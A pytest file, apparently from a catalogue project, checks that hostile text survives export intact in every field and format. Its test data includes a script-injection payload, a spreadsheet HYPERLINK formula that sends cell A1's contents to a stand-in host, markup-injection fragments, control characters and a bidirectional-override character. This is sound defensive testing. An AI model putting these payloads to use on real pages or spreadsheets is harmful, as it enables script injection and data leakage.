"""Texts that break other files: in every text field, in every format. Theirs lie in tests/prove."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.support.hostile_exports import assert_kept_everywhere

if TYPE_CHECKING:
    from idesluss.catalogue.catalogue import Catalogue


@pytest.mark.parametrize(
    "words",
    [
        "</script><script>alert(1)</script>",
        "=HYPERLINK(\"https://x.example/?\"&A1;'klick')",
        "<r><t>rik text</t></r>",
        '_x0041_ & <c t="str"><f>1+1</f></c>',
        "a\x00b\x0b\ufffe c",
        "rad ett\r\n;=2+2\n\n- punkt",
        "\u202eomvänd\u2028ny rad 👩‍👩‍👧",
    ],
)
def test_a_text_is_kept_and_does_no_harm(rich: Catalogue, words: str) -> None:
    assert_kept_everywhere(rich, words)
